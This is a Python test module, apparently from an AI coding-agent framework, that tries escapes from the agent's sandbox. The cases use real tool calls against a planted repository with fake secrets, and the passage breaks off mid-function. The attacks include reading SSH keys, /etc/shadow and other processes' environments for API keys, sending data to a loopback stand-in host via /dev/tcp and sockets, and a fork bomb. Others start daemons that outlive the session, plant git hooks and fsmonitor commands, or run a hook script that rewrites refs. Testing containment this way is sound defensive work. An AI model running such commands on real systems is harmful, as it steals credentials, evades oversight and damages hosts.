"""The escape suite: attacks on the sandbox through the real tools, in a real git worktree.

Each attack is one parametrized case, run under both sandboxes: with `bwrap` none may
succeed; with `none` the suite documents which do (`none_escapes`). The world is real: a
git repository with planted hooks, two worktrees (the agent's and another), a fake home
with an SSH key, an untracked secret in the checkout, a journal, a host process holding a
provider key, and a loopback TCP server standing in for the internet.
"""

from __future__ import annotations

import contextlib
import os
import signal
import socketserver
import subprocess
import sys
import threading
import time
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
from contextlib import asynccontextmanager, contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Literal

import anyio
import pytest

from swarm._sandbox import (
    BwrapSandbox,
    Limits,
    NoSandbox,
    Sandbox,
    SandboxPolicy,
    _spawner,
    bwrap_problem,
)
from swarm._sandbox.hooks import sandboxed_git
from swarm.agent._tool import ToolContext
from swarm.agent._toolbox import coding_tools
from swarm.errors import ToolError, WorkspaceError
from swarm.run._check import run_check
from swarm.run._environment import CheckEnvironment
from swarm.run._workspace import Workspace, git, hook_env
from tests.sandboxing import marked

TOOLS = {t.name: t for t in coding_tools()}
NO_BWRAP = bwrap_problem()
MAX_PROCESSES = 64
HOOKS = (
    *("post-checkout", "pre-commit", "prepare-commit-msg", "commit-msg", "post-commit"),
    *("reference-transaction", "post-index-change", "post-rewrite", "post-merge"),
)
SECRETS = {
    "ssh": "SSH-PRIVATE-KEY-6f1c",
    "other": "OTHER-WORKTREE-SECRET-91a2",
    "checkout": "CHECKOUT-SECRET-3b7d",
    "journal": "JOURNAL-SECRET-c4e8",
    "env": "sk-ESCAPE-ENV-5d20",
    "proc": "sk-ant-ESCAPE-PROC-77f3",
    "gitcred": "ghp_ESCAPEgitCREDENTIAL0a9b",
    "llmauth": "ESCAPE-LLM-AUTH-e71c",
    "dburl": "ESCAPE-DB-PASSWORD-2f6a",
    "dsn": "ESCAPE-SENTRY-DSN-48d0",
}
UNNAMED_SECRETS = {
    "MY_LLM_AUTH": SECRETS["llmauth"],
    "DATABASE_URL": f"postgres://app:{SECRETS['dburl']}@127.0.0.1:5432/app",
    "SENTRY_DSN": f"https://{SECRETS['dsn']}@127.0.0.1:9/1",
}
"""Secrets whose names hold none of the deny-list's words: only an allow-list stops them."""
ROOT = os.geteuid() == 0
SHM_MB = 32
DISK_MB = 64
MEMORY_MB = 256
SYSCTL = Path("/proc/sys/kernel/core_uses_pid")


class _Recorder(socketserver.BaseRequestHandler):
    def handle(self) -> None:
        data = self.request.recv(256)
        self.server.received.append(data.decode(errors="replace"))  # type: ignore[attr-defined]


@contextmanager
def internet() -> Iterator[socketserver.ThreadingTCPServer]:
    """A real TCP server on the host's loopback: reaching it means reaching the network."""
    server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), _Recorder)
    server.received = []  # type: ignore[attr-defined]
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()


@dataclass
class World:
    tmp: Path
    repo: Path
    outside: Path
    home: Path
    mine: Workspace
    other: Workspace
    env: CheckEnvironment
    server: socketserver.ThreadingTCPServer
    keyholder: int
    """A host process whose environment holds a provider key."""
    notes: list[str] = field(default_factory=list)

    @property
    def wt(self) -> Path:
        return self.mine.path

    @property
    def port(self) -> int:
        return int(self.server.server_address[1])

    @property
    def sandbox(self) -> Sandbox:
        return self.env.sandbox

    def ctx(self, check: str | None = None) -> ToolContext:
        return self.env.context(self.wt, check=check, timeout_s=20)

    def received(self, tag: str) -> bool:
        return any(tag in r for r in self.server.received)  # type: ignore[attr-defined]


def _sh(cwd: Path, command: str) -> None:
    subprocess.run(command, shell=True, cwd=cwd, check=True, capture_output=True)


def _make_repo(tmp: Path) -> tuple[Path, Path, Path]:
    repo, outside, home = tmp / "repo", tmp / "outside", tmp / "home"
    for d in (repo, outside, home / ".ssh"):
        d.mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(SECRETS["ssh"])
    (outside / "victim.txt").write_text("original\n")
    (repo / "app.py").write_text("def one():\n    return 1\n")
    (repo / "test_app.py").write_text(
        "from app import one\n\n\ndef test_one():\n    assert one() == 1\n"
    )
    _sh(repo, "git init -q && git add . && git -c user.name=t -c user.email=t@t commit -qm init")
    (repo / "secret.txt").write_text(SECRETS["checkout"])
    _sh(repo, f"git remote add origin https://me:{SECRETS['gitcred']}@example.com/app.git")
    (repo / ".swarm").mkdir()
    (repo / ".swarm" / "journal.db").write_text(SECRETS["journal"])
    for name in HOOKS:  # the target repository's hooks: they must never run on the host
        hook = repo / ".git" / "hooks" / name
        hook.write_text(
            f'#!/bin/sh\necho "$0" >> {outside}/hooks-ran\n'
            f"git config core.fsmonitor 'echo fsmonitor >> {outside}/hooks-ran'\nexit 0\n"
        )
        hook.chmod(0o755)
    return repo, outside, home


def _sandbox(kind: str, *, cgroups: bool = True) -> Sandbox:
    limits = Limits(
        max_processes=MAX_PROCESSES, memory_mb=MEMORY_MB, shm_mb=SHM_MB, disk_mb=DISK_MB
    )
    policy = SandboxPolicy(limits=limits, cgroups=cgroups)
    return BwrapSandbox(policy) if kind == "bwrap" else NoSandbox(policy)


@asynccontextmanager
async def world(tmp: Path, kind: str, *, cgroups: bool = True) -> AsyncIterator[World]:
    repo, outside, home = _make_repo(tmp)
    sandbox = _sandbox(kind, cgroups=cgroups)
    env = CheckEnvironment.resolve(repo, python=sys.executable, sandbox=sandbox)
    holder_env = {"PATH": os.environ.get("PATH", ""), "ANTHROPIC_API_KEY": SECRETS["proc"]}
    holder = subprocess.Popen(["sleep", "120"], env=holder_env)  # noqa: ASYNC220 (no wait)
    try:
        with internet() as server:
            async with (
                Workspace.open(repo, name="mine", run_id="escape", disk_mb=DISK_MB) as mine,
                Workspace.open(repo, name="other", run_id="escape") as other,
            ):
                (other.path / "notes.txt").write_text(SECRETS["other"])
                yield World(tmp, repo, outside, home, mine, other, env, server, holder.pid)
    finally:
        holder.kill()
        holder.wait()


# ---- how an attack is carried out ----------------------------------------------------

Perform = Callable[[World], Awaitable[str]]


def run(command: Callable[[World], str]) -> Perform:
    async def perform(w: World) -> str:
        return await TOOLS["run"].run({"command": command(w)}, w.ctx())

    return perform


def run_tests(command: Callable[[World], str]) -> Perform:
    async def perform(w: World) -> str:
        return await TOOLS["run_tests"].run({}, w.ctx(check=command(w)))

    return perform


def check(command: Callable[[World], str]) -> Perform:
    async def perform(w: World) -> str:
        result = await run_check(command(w), w.wt, timeout_s=20, environment=w.env)
        return result.output

    return perform


def file_tool(name: str, args: Callable[[World], dict[str, Any]]) -> Perform:
    async def perform(w: World) -> str:
        try:
            return await TOOLS[name].run(args(w), w.ctx())
        except ToolError as exc:
            return f"refused: {exc}"

    return perform


# ---- how an escape is recognised -------------------------------------------------------

Escaped = Callable[[World, str], bool]


def wrote(path: Callable[[World], Path]) -> Escaped:
    return lambda w, _out: path(w).exists()


def leaked(secret: str) -> Escaped:
    return lambda _w, out: SECRETS[secret] in out


def reached(tag: str) -> Escaped:
    def escaped(w: World, _out: str) -> bool:
        deadline = time.monotonic() + 2  # the server's thread may not have noted it yet
        while not w.received(tag) and time.monotonic() < deadline:
            time.sleep(0.02)
        return w.received(tag)

    return escaped


def printed(marker: str) -> Escaped:
    return lambda _w, out: marker in out


def survived(marker: str) -> Escaped:
    def escaped(_w: World, _out: str) -> bool:
        pids = marked(marker)
        for pid in pids:
            os.kill(pid, signal.SIGKILL)
        return bool(pids)

    return escaped


@dataclass(frozen=True)
class Attack:
    id: str
    perform: Perform
    escaped: Escaped
    none_escapes: bool | Literal["on-the-host-fs"]
    """Whether it succeeds without a sandbox (documented by the `none` runs);
    `"on-the-host-fs"`: only where the worktree is not a filesystem of its own
    (`swarm._sandbox._volume`: a hard link cannot cross into one)."""
    host_danger: bool = False
    """Too harmful to run for real without a sandbox (a fork bomb): skipped under `none`."""


def _out(w: World, name: str) -> Path:
    return w.outside / name


def _rel_out(w: World, name: str) -> str:
    return os.path.relpath(w.outside / name, w.wt)


def _connect(tag: str, host: str = "127.0.0.1") -> Callable[[World], str]:
    return lambda w: (
        f"python -c \"import socket; s = socket.create_connection(('{host}', {w.port}), "
        f"timeout=3); s.sendall(b'{tag}'); s.close()\""
    )


# ---- attacks that need more than one tool call --------------------------------------------


async def _swap_race(w: World) -> str:
    """write_file on `d/f` while a thread swaps `d` between a directory and a symlink out."""
    d, stop = w.wt / "d", threading.Event()

    def swapper() -> None:
        while not stop.is_set():
            try:
                d.rmdir() if d.is_dir() and not d.is_symlink() else d.unlink()
            except OSError:
                pass
            try:
                d.mkdir() if os.urandom(1)[0] & 1 else d.symlink_to(w.outside)
            except OSError:
                pass

    thread = threading.Thread(target=swapper, daemon=True)
    thread.start()
    outcomes = set()
    try:
        for _ in range(300):
            try:
                await TOOLS["write_file"].run({"path": "d/raced.txt", "content": "x"}, w.ctx())
                outcomes.add("wrote")
            except ToolError as exc:
                outcomes.add(str(exc)[:40])
    finally:
        stop.set()
        thread.join()
    return repr(sorted(outcomes))


def _hooks_ran(w: World, _out: str) -> bool:
    return (w.outside / "hooks-ran").exists()


def _config_planted(w: World, _out: str) -> bool:
    return "fsmonitor" in (w.repo / ".git" / "config").read_text()


async def _worktree_add(w: World) -> str:
    async with Workspace.open(w.repo, name="third", run_id="escape") as ws:
        return str(ws.path)


async def _apply_and_commit(w: World) -> str:
    (w.other.path / "app.py").write_text("def one():\n    return 1 + 0\n")
    await w.mine.apply(await w.other.patch())
    return await w.mine.commit("apply the other's change")


async def _hooks_run_in_sandbox(w: World) -> str:
    """`hooks: run`: the merge queue's commit runs hooks, through `sandboxed_git`."""
    (w.wt / "app.py").write_text("def one():\n    return 2 - 1\n")
    await git("add", "app.py", cwd=w.wt)
    identity = ("-c", "user.name=swarm", "-c", "user.email=swarm@localhost")
    try:
        return await sandboxed_git(
            w.sandbox, *identity, "commit", "-qm", "m", cwd=w.wt, env=hook_env()
        )
    except WorkspaceError as exc:
        return str(exc)


def _await(path: str) -> str:
    """Wait (5 s at most) for a file the survivor writes once it has left the group."""
    return f"for _ in $(seq 100); do [ -e {path} ] && break; sleep 0.05; done"


def _setsid(marker: str) -> str:
    """A child in a session of its own; the command waits until it is there, then ends."""
    up = f"up-{marker}"
    child = f"setsid sh -c 'touch {up}; exec sleep {marker}' >/dev/null 2>&1 </dev/null &"
    return f"{child} {_await(up)}; echo ok"


DAEMON = "\n".join(
    [
        "import os, time",
        "if os.fork(): os._exit(0)",
        "os.setsid()",
        "if os.fork(): os._exit(0)",
        "open('daemon-up', 'w').close()",
        "time.sleep(31337.2)",
    ]
)
"""The classic double fork: a new session, no parent to reap it."""


async def _fsmonitor_then_host_git(w: World) -> str:
    """Plant a command in the repository's config, then let swarm's own git commands run."""
    plant = f"git config core.fsmonitor 'echo ran >> {_out(w, 'fsm-ran')}'; git config -l"
    out = await run(lambda _w: plant)(w)
    (w.wt / "app.py").write_text("def one():\n    return 3 - 2\n")
    return out + await w.mine.patch() + await w.mine.commit("m")


def _flip_sysctl(_w: World) -> str:
    """Write the other value to a harmless host setting (the test puts it back)."""
    return f"echo $((1 - $(cat {SYSCTL}))) > {SYSCTL}; cat {SYSCTL}"


def _sysctl_changed(before: str) -> Escaped:
    def escaped(_w: World, _out: str) -> bool:
        now = SYSCTL.read_text()
        if now != before:
            SYSCTL.write_text(before)  # put the host's setting back
        return now != before

    return escaped


def _opens_for_writing(path: str, marker: str) -> Callable[[World], str]:
    """Open a kernel file for writing, write nothing: proof enough, and harmless."""
    return lambda _w: (
        f"python -c \"import os; os.close(os.open('{path}', os.O_WRONLY)); print('{marker}')\""
    )


def _writable_by_us(path: str) -> bool:
    return os.path.exists(path) and os.access(path, os.W_OK)


def _shadow_line() -> str:
    try:
        return Path("/etc/shadow").read_text().splitlines()[0]
    except (OSError, IndexError):
        return "\0no shadow here"


@contextmanager
def _peer(fifo: Path) -> Iterator[None]:
    """A thread that, a moment later and then again and again, opens the other end of
    `fifo` for reading and for writing (and closes it): a tool that waited on the FIFO
    (as each did) would wait for ever without it."""
    stop = threading.Event()

    def open_other_end() -> None:
        stop.wait(2)
        while not stop.is_set():
            for flags in (os.O_RDONLY, os.O_WRONLY):
                try:
                    os.close(os.open(fifo, flags | os.O_NONBLOCK))
                except OSError:  # no reader yet (ENXIO)
                    pass
            stop.wait(0.05)

    thread = threading.Thread(target=open_other_end, daemon=True)
    thread.start()
    try:
        yield
    finally:
        stop.set()
        thread.join()


def fifo_tool(name: str, args: dict[str, Any]) -> Perform:
    """`name` on a FIFO the agent made where a file was (`mkfifo app.py`)."""

    async def perform(w: World) -> str:
        (w.wt / "app.py").unlink()
        os.mkfifo(w.wt / "app.py")
        with _peer(w.wt / "app.py"):
            return await file_tool(name, lambda _w: {"path": "app.py", **args})(w)

    return perform


async def _patch_of_a_huge_file(w: World) -> str:
    """A file far past the patch limit written over a tracked one, then the patch."""
    await run(lambda _w: "head -c 40000000 /dev/zero | tr '\\0' a > app.py; echo written")(w)
    try:
        return f"patched {len(await w.mine.patch())} bytes"
    except WorkspaceError as exc:
        return f"refused: {exc}"


SHARED_MAPPING = (
    'python -c "import mmap; m = mmap.mmap(-1, 600 << 20, flags=mmap.MAP_SHARED); '
    "c = b'x' * (1 << 20)\n"
    "for i in range(600): m[i << 20:(i + 1) << 20] = c\n"
    "print('SHARED-HELD')\""
)
"""600 MB in a shared mapping, which RLIMIT_DATA does not count."""
MANY_HOLDERS = (
    "for i in 1 2 3 4; do python -c \"b = bytearray(200 << 20); print('HE' 'LD', flush=True); "
    "import time; time.sleep(3); print('KE' 'PT', flush=True)\" & done; wait"
)
"""4 processes of 200 MB each: each under a per-process limit of 256 MB. One that printed
HELD may be killed when the next one takes its memory, so only KEPT (held to the end of
its wait, while the others started) counts: two of those held 400 MB at once."""


def _stopped_for_memory(held: Callable[[str], bool]) -> Escaped:
    """Escaped: the memory was held, or it was not and the model is not told why."""
    return lambda _w, out: held(out) or "memory limit" not in out


EVIL_HOOK = """#!/bin/sh
# what a hook that runs the worktree's own files (pre-commit, husky) lets an agent do
common=$(git rev-parse --git-common-dir)
evil=$(git commit-tree "HEAD^{tree}" -m evil)
git branch planted-branch "$evil"
for ref in $(git for-each-ref --format='%(refname)' refs/heads/); do
    git update-ref "$ref" "$evil"
done
echo 'ref: refs/heads/planted-branch' > "$common/HEAD"
echo /tmp > "$common/objects/info/alternates"
echo planted > "$common/packed-refs"
git symbolic-ref HEAD refs/heads/planted-branch
exit 0
"""


def _repository_state(w: World) -> str:
    """The user's refs (not swarm's own branches), HEAD, alternates and packed refs."""
    git_dir = w.repo / ".git"
    listed = subprocess.run(
        ["git", "for-each-ref", "--format=%(refname) %(objectname)"],
        cwd=w.repo,
        capture_output=True,
        text=True,
        check=False,
    )
    refs = [*listed.stdout.splitlines(), f"exit {listed.returncode}"]
    mine = [r for r in refs if not r.startswith("refs/heads/swarm/")]
    extra = [
        (git_dir / name).read_text() if (git_dir / name).exists() else "-"
        for name in ("HEAD", "objects/info/alternates", "packed-refs")
    ]
    return "\n".join([*mine, *extra])


def _hook_runs_worktree_file() -> tuple[Perform, Escaped]:
    before: dict[str, str] = {}

    async def perform(w: World) -> str:
        hook = w.repo / ".git" / "hooks" / "pre-commit"
        hook.write_text("#!/bin/sh\n[ -f ./evil.sh ] && sh ./evil.sh\nexit 0\n")
        (w.wt / "evil.sh").write_text(EVIL_HOOK)
        before["state"] = _repository_state(w)
        return await _hooks_run_in_sandbox(w)

    def escaped(w: World, _out: str) -> bool:
        return _repository_state(w) != before["state"]

    return perform, escaped


def _many_processes(w: World) -> str:
    return f"for i in $(seq {MAX_PROCESSES + 40}); do sleep 3 & done; sleep 0.5; echo ALL-STARTED"


ATTACKS = [
    # writes outside the worktree, through `run`
    Attack(
        "run-write-absolute",
        run(lambda w: f"echo x > {_out(w, 'abs')}"),
        wrote(lambda w: _out(w, "abs")),
        True,
    ),
    Attack(
        "run-write-dotdot",
        run(lambda w: f"echo x > {_rel_out(w, 'dd')}"),
        wrote(lambda w: _out(w, "dd")),
        True,
    ),
    Attack(
        "run-write-symlink-dir",
        run(lambda w: f"ln -s {w.outside} out && echo x > out/sl"),
        wrote(lambda w: _out(w, "sl")),
        True,
    ),
    Attack(
        "run-write-hard-link",
        run(lambda w: f"ln {_out(w, 'victim.txt')} hl; echo pwned >> hl; cat hl"),
        lambda w, _o: "pwned" in _out(w, "victim.txt").read_text(),
        "on-the-host-fs",
    ),
    Attack(
        "run-write-proc-self-root",
        run(lambda w: f"echo x > /proc/self/root{_out(w, 'pr')}"),
        wrote(lambda w: _out(w, "pr")),
        True,
    ),
    Attack(
        "run-write-python-open",
        run(lambda w: f"python -c \"open('{_out(w, 'py')}', 'w').write('x')\""),
        wrote(lambda w: _out(w, "py")),
        True,
    ),
    Attack(
        "run-write-main-checkout",
        run(lambda w: f"echo pwned >> {w.repo / 'app.py'}"),
        lambda w, _o: "pwned" in (w.repo / "app.py").read_text(),
        True,
    ),
    Attack(
        "run-write-other-worktree",
        run(lambda w: f"echo pwned > {w.other.path / 'app.py'}"),
        lambda w, _o: "pwned" in (w.other.path / "app.py").read_text(),
        True,
    ),
    Attack(
        "run-plant-hook-in-git-dir",
        run(lambda w: f"echo 'touch {_out(w, 'hk')}' > {w.repo}/.git/hooks/pre-push"),
        wrote(lambda w: w.repo / ".git/hooks/pre-push"),
        True,
    ),
    Attack(
        "run-redirect-dot-git-file",
        run(lambda w: "echo 'gitdir: /tmp/evil' > .git"),
        lambda w, _o: "evil" in (w.wt / ".git").read_text(),
        True,
    ),
    Attack(
        "run-plant-git-config",
        run(lambda w: f"git config core.fsmonitor 'touch {_out(w, 'fsm')}'"),
        _config_planted,
        True,
    ),
    # reads of what is not the worktree's
    Attack("run-read-ssh-key", run(lambda w: f"cat {w.home}/.ssh/id_rsa"), leaked("ssh"), True),
    Attack(
        "run-read-ssh-key-proc-root",
        run(lambda w: f"cat /proc/self/root{w.home}/.ssh/id_rsa"),
        leaked("ssh"),
        True,
    ),
    Attack(
        "run-read-other-worktree",
        run(lambda w: f"cat {w.other.path}/notes.txt"),
        leaked("other"),
        True,
    ),
    Attack(
        "run-read-other-worktree-dotdot",
        run(lambda w: "cat ../other/notes.txt"),
        leaked("other"),
        True,
    ),
    Attack(
        "run-read-main-checkout",
        run(lambda w: f"cat {w.repo}/secret.txt"),
        leaked("checkout"),
        True,
    ),
    Attack(
        "run-read-journal",
        run(lambda w: f"cat {w.repo}/.swarm/journal.db"),
        leaked("journal"),
        True,
    ),
    Attack(
        "run-read-git-remote-credentials",
        run(lambda w: f"git config --list; cat {w.repo}/.git/config"),
        leaked("gitcred"),
        True,
    ),
    # provider keys
    Attack("run-env-provider-key", run(lambda w: "env"), leaked("env"), False),
    Attack(
        "run-proc-environ-of-host-process",
        run(lambda w: f"cat /proc/{w.keyholder}/environ"),
        leaked("proc"),
        True,
    ),
    Attack(
        "run-scan-all-environs",
        run(lambda w: "cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -a ESCAPE"),
        leaked("proc"),
        True,
    ),
    # the network
    Attack("run-tcp-loopback", run(_connect("TCP-RUN")), reached("TCP-RUN"), True),
    Attack(
        "run-tcp-localhost-name", run(_connect("TCP-NAME", "localhost")), reached("TCP-NAME"), True
    ),
    Attack(
        "run-tcp-bash-dev-tcp",
        run(lambda w: f"echo TCP-BASH > /dev/tcp/127.0.0.1/{w.port}"),
        reached("TCP-BASH"),
        True,
    ),
    # processes
    Attack(
        "run-fork-bomb",
        run(lambda w: ":(){ :|:& };:; sleep 2; echo BOMB-SURVIVED"),
        printed("BOMB-SURVIVED"),
        True,
        host_danger=True,
    ),
    Attack("run-too-many-processes", run(_many_processes), printed("ALL-STARTED"), True),
    Attack(
        "run-setsid-survivor",
        run(lambda w: _setsid("31337.1")),
        survived("31337.1"),
        False,  # the command tag ends what left the group, sandbox or not
    ),
    Attack(
        "run-daemon-survivor",
        run(lambda w: f'python -c "{DAEMON}" >/dev/null 2>&1; {_await("daemon-up")}; echo ok'),
        survived("31337.2"),
        False,  # the command tag ends what left the group, sandbox or not
    ),
    Attack(
        "run-nohup-survivor",
        run(lambda w: "nohup sleep 31337.3 >/dev/null 2>&1 & sleep 0.5; echo ok"),
        survived("31337.3"),
        False,
    ),
    # through run_tests (a malicious check or test suite)
    Attack(
        "run-tests-write-absolute",
        run_tests(lambda w: f"echo x > {_out(w, 'rt')}"),
        wrote(lambda w: _out(w, "rt")),
        True,
    ),
    Attack(
        "run-tests-read-ssh-key",
        run_tests(lambda w: f"cat {w.home}/.ssh/id_rsa"),
        leaked("ssh"),
        True,
    ),
    Attack(
        "run-tests-tcp-loopback",
        run_tests(_connect("TCP-RUN-TESTS")),
        reached("TCP-RUN-TESTS"),
        True,
    ),
    # through the coordinator's check
    Attack(
        "check-write-absolute",
        check(lambda w: f"echo x > {_out(w, 'ck')}"),
        wrote(lambda w: _out(w, "ck")),
        True,
    ),
    Attack("check-read-ssh-key", check(lambda w: f"cat {w.home}/.ssh/id_rsa"), leaked("ssh"), True),
    Attack("check-tcp-loopback", check(_connect("TCP-CHECK")), reached("TCP-CHECK"), True),
    Attack(
        "check-setsid-survivor",
        check(lambda w: _setsid("31337.4")),
        survived("31337.4"),
        False,  # the command tag ends what left the group, sandbox or not
    ),
    # the file tools
    Attack(
        "read-file-dotdot",
        file_tool("read_file", lambda w: {"path": _rel_out(w, "victim.txt")}),
        printed("original"),
        False,
    ),
    Attack(
        "read-file-absolute",
        file_tool("read_file", lambda w: {"path": str(w.home / ".ssh/id_rsa")}),
        leaked("ssh"),
        False,
    ),
    Attack(
        "write-file-absolute",
        file_tool("write_file", lambda w: {"path": str(_out(w, "wf")), "content": "x"}),
        wrote(lambda w: _out(w, "wf")),
        False,
    ),
    Attack(
        "write-file-dot-git",
        file_tool("write_file", lambda w: {"path": ".git/../.git/config", "content": "x"}),
        lambda w, _o: (w.wt / ".git").read_text() == "x",
        False,
    ),
    Attack("write-file-swapped-symlink", _swap_race, wrote(lambda w: _out(w, "raced.txt")), False),
    # the target repository's hooks and config
    Attack("hooks-on-worktree-add", _worktree_add, _hooks_ran, False),
    Attack("hooks-on-apply-and-commit", _apply_and_commit, _hooks_ran, False),
    Attack(
        "host-git-runs-planted-fsmonitor",
        _fsmonitor_then_host_git,
        wrote(lambda w: _out(w, "fsm-ran")),
        False,
    ),
    Attack("hooks-run-write-outside", _hooks_run_in_sandbox, _hooks_ran, True),
    Attack("hooks-run-plant-git-config", _hooks_run_in_sandbox, _config_planted, True),
]


def _symlinked(w: World) -> dict[str, Any]:
    (w.wt / "link").symlink_to(w.outside)
    return {"path": "link/victim.txt"}


ATTACKS += [
    Attack(
        "read-file-through-symlink", file_tool("read_file", _symlinked), printed("original"), False
    ),
    Attack(
        "edit-file-through-symlink",
        file_tool("edit_file", lambda w: {**_symlinked(w), "old": "original", "new": "pwned"}),
        lambda w, _o: "pwned" in _out(w, "victim.txt").read_text(),
        False,
    ),
]


# the host's kernel, accounts and memory (issue 34); as root, `none` loses each
ATTACKS += [
    Attack(
        "run-write-proc-sys",
        run(_flip_sysctl),
        _sysctl_changed(SYSCTL.read_text()),
        ROOT,
        host_danger=True,  # unconfined as root it changes the host's setting for real
    ),
    Attack(
        "run-open-core-pattern-for-writing",
        run(_opens_for_writing("/proc/sys/kernel/core_pattern", "CORE-PATTERN-OPEN")),
        printed("CORE-PATTERN-OPEN"),
        _writable_by_us("/proc/sys/kernel/core_pattern"),
    ),
    Attack(
        "run-open-sysrq-trigger-for-writing",
        run(_opens_for_writing("/proc/sysrq-trigger", "SYSRQ-OPEN")),
        printed("SYSRQ-OPEN"),
        _writable_by_us("/proc/sysrq-trigger"),
    ),
    Attack(
        "run-read-etc-shadow",
        run(lambda _w: "cat /etc/shadow"),
        lambda _w, out: _shadow_line() in out,
        os.access("/etc/shadow", os.R_OK),
    ),
    Attack(
        "run-as-root",
        run(lambda _w: '[ "$(id -u)" = 0 ] && echo RUNS-AS-ROOT'),
        printed("RUNS-AS-ROOT"),
        ROOT,
    ),
    Attack(
        "run-nested-user-namespace-root",
        run(lambda _w: "unshare -Ur id -u 2>&1 | grep -qx 0 && echo NESTED-ROOT"),
        printed("NESTED-ROOT"),
        True,  # unconfined, unshare gives a root of its own namespace
    ),
    Attack(
        "run-env-unnamed-secrets",
        run(lambda _w: "env"),
        lambda _w, out: any(SECRETS[k] in out for k in ("llmauth", "dburl", "dsn")),
        False,  # the environment is built from an allow-list, sandbox or not
    ),
    Attack(
        "check-env-unnamed-secrets",
        check(lambda _w: "env"),
        lambda _w, out: any(SECRETS[k] in out for k in ("llmauth", "dburl", "dsn")),
        False,
    ),
    Attack(
        "run-dev-shm-past-its-size",
        run(lambda _w: f"head -c {3 * SHM_MB}M /dev/zero > /dev/shm/fill; du -m /dev/shm/fill"),
        lambda _w, out: f"{3 * SHM_MB}\t/dev/shm/fill" in out,
        True,
        host_danger=True,  # unconfined it fills the host's /dev/shm
    ),
    Attack(
        "run-fill-dev",
        run(lambda _w: "head -c 50M /dev/zero > /dev/fill && echo FILLED-DEV"),
        printed("FILLED-DEV"),
        ROOT,
        host_danger=True,
    ),
    Attack(
        "run-fill-root",
        run(lambda _w: "head -c 50M /dev/zero > /fill && echo FILLED-ROOT"),
        printed("FILLED-ROOT"),
        ROOT,
        host_danger=True,
    ),
    # the file tools on what is not a file (they waited on a FIFO for ever)
    Attack(
        "read-file-fifo",
        fifo_tool("read_file", {}),
        lambda _w, out: "FIFO" not in out,
        False,
    ),
    Attack(
        "write-file-fifo",
        fifo_tool("write_file", {"content": "x"}),
        lambda _w, out: "FIFO" not in out,
        False,
    ),
    Attack(
        "edit-file-fifo",
        fifo_tool("edit_file", {"old": "x", "new": "y"}),
        lambda _w, out: "FIFO" not in out,
        False,
    ),
    Attack(
        "patch-of-a-huge-file",
        _patch_of_a_huge_file,
        lambda _w, out: not (out.startswith("refused:") and "app.py" in out),
        False,
    ),
]


# memory, as a whole: the kernel's memory cgroup (where swarm can make one)
ATTACKS += [
    Attack(
        "run-memory-shared-mapping",
        run(lambda _w: SHARED_MAPPING),
        _stopped_for_memory(lambda out: "SHARED-HELD" in out),
        True,
        host_danger=True,
    ),
    Attack(
        "run-memory-many-processes",
        run(lambda _w: MANY_HOLDERS),
        _stopped_for_memory(lambda out: out.count("KEPT") >= 2),
        True,
        host_danger=True,
    ),
    Attack(
        "run-memory-dev-shm-and-tmp",
        run(
            lambda _w: (
                # files under the disk quota (no one file may pass it, /tmp's included)
                "for i in 1 2 3 4; do head -c 60M /dev/zero > /tmp/a$i; done; "
                "head -c 30M /dev/zero > /dev/shm/b; du -cm /tmp/a* /dev/shm/b | tail -1"
            )
        ),
        _stopped_for_memory(lambda out: "270\ttotal" in out),
        True,
        host_danger=True,
    ),
]
# who a command is to the host's kernel (issue 34): never uid 0, even when swarm is root
SLEEPER = "31.4159"
"""The argument that finds the sandboxed `sleep` among the host's processes."""


async def _host_uid_of_a_command(w: World) -> str:
    """Start `sleep` through `run` and read its uids from the host's /proc (only the
    command's: bubblewrap's own two processes, its monitor and the namespace's reaper, stay
    root without effective capabilities and run nothing of the command's)."""
    statuses: list[str] = []
    async with anyio.create_task_group() as group:
        group.start_soon(TOOLS["run"].run, {"command": f"sleep {SLEEPER}"}, w.ctx())
        with anyio.move_on_after(15):
            while not statuses:
                await anyio.sleep(0.02)
                for pid in marked(SLEEPER):
                    with contextlib.suppress(OSError):
                        if Path(f"/proc/{pid}/comm").read_text().strip() == "sleep":
                            status = Path(f"/proc/{pid}/status").read_text().splitlines()
                            statuses += [line for line in status if line.startswith("Uid:")]
        group.cancel_scope.cancel()
    return "\n".join(statuses) or "NOT-FOUND"


def _runs_as_host_root(_w: World, out: str) -> bool:
    uids = [line.split()[1:] for line in out.splitlines() if line.startswith("Uid:")]
    return not uids or any("0" in ids for ids in uids)


async def _root_owned(w: World, name: str, mode: int, command: str) -> str:
    """A file of root's with `mode` and no ACL, made in the worktree after a first command
    (which lets the command's uid write what is there), then `command` run on it."""
    if not ROOT:
        pytest.skip("swarm is not root: the file would be the command's own user's")
    await TOOLS["run"].run({"command": "true"}, w.ctx())
    path = w.wt / name
    path.write_text("root's\n")
    with contextlib.suppress(OSError):
        os.removexattr(path, "system.posix_acl_access")
    path.chmod(mode)
    return await TOOLS["run"].run({"command": command}, w.ctx())


ATTACKS += [
    Attack("run-host-uid-0", _host_uid_of_a_command, _runs_as_host_root, ROOT),
    Attack(
        "run-write-root-owned-file",
        lambda w: _root_owned(w, "owned.txt", 0o644, "echo pwned >> owned.txt"),
        lambda w, _o: "pwned" in (w.wt / "owned.txt").read_text(),
        True,  # unconfined it is swarm's own file
    ),
    Attack(
        "run-read-root-only-file",
        lambda w: _root_owned(w, "private.txt", 0o600, "cat private.txt && echo READ-IT"),
        printed("READ-IT"),
        True,
    ),
]


async def _others_unfinished_blobs(w: World) -> str:
    """The other agent's patch is computed (its blobs made), then every object this agent's
    git can reach is printed."""
    w.other.written.note("notes.txt")
    assert SECRETS["other"] in await w.other.patch()
    command = "git cat-file --batch-all-objects --batch | grep -a -o 'OTHER-WORKTREE-[-A-Za-z0-9]*'"
    return await TOOLS["run"].run({"command": command}, w.ctx())


ATTACKS.append(
    Attack(
        "run-cat-file-others-unfinished-work",
        _others_unfinished_blobs,
        leaked("other"),
        False,  # the blobs of a patch never enter the shared store, sandbox or not
    )
)


def _disk_bomb_stopped(w: World, out: str) -> bool:
    grown = sum(p.stat().st_size for p in w.wt.glob("bomb-*")) / (1024 * 1024)
    if w.mine.volume:  # the kernel refuses the writes past the quota: the command goes on
        return grown > DISK_MB or f"disk quota of {DISK_MB} MB is used up" not in out
